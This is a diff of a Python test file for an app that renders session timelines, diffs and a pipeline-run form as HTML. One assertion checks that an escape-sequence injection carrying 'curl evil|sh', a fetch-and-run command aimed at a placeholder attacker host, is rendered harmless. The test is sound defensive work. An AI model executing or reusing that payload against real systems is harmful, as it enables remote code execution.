@@ -135,8 +135,9 @@ def test_what_people_decide_on_loses_nothing() -> None:
     html += timeline(events, lens)
     assert html.count("␛]; curl evil|sh #␇") == 3, "in the card's head and its arguments"
     assert html.count("␛]y␇") == 1, "one argument that is too long for the head"
-    html += changes("-a\x1b]b\x07\n+c\r d\u2028-e\n")
-    assert '<span class="minus">-a␛]b␇\n</span><span class="plus">+c␍ d⟨U+2028⟩-e\n</span>' in html
+    html += changes("@@ -7 +8 @@\n-a\x1b]b\x07\n+c\r d\u2028-e\n", "f1")
+    assert '<span class="l" id="f1.O7" data-n="7"><span class="minus">-a␛]b␇\n</span></span>' in html
+    assert '<span class="l" id="f1.L8" data-n="8"><span class="plus">+c␍ d⟨U+2028⟩-e\n</span></span>' in html
     assert not set(html) & set("\x1b\x07\r\u202e\u200b\u2028")
 
 
@@ -223,7 +224,9 @@ async def test_a_session_is_started_by_a_form(api: Api, app: App, start: Start) 
     path = f"/projects/{project}/run?flow=fix_pipeline/v1&pipeline_id=1"
     asked = await api.client.get(path, headers=headers)
     assert asked.status_code == 200, asked.text
-    assert 'name="pipeline_id" type="number" value="1" required' in asked.text
+    assert re.search(
+        r'<select [^>]*name="pipeline_id" required[^>]*>(?s:.)*?<option value="1" selected>#1 ', asked.text
+    )
     form = {"flow": "fix_pipeline/v1", "goal": "Repair it", "pipeline_id": "1", "model": "scripted", "key": "once"}
     went = [
         await api.client.post(f"/projects/{project}/run", data=form, headers=headers, follow_redirects=False)
@@ -322,7 +325,8 @@ async def _watched(http: httpx.AsyncClient, url: str) -> list[tuple[str, str, st
     found: list[ServerSentEvent] = []
     async with asyncio.timeout(30), aconnect_sse(http, "GET", url) as source:
         async for signal in source.aiter_sse():
-            found.append(signal)
-            if signal.event in ("end", "error"):
+            if signal.event != "fresh":  # what is around the page
+                found.append(signal)
+            if signal.event == "error" or (signal.event == "parts" and "Stopped" in json.loads(signal.data)["header"]):
                 break
     return [(signal.event, signal.data, signal.id) for signal in found]
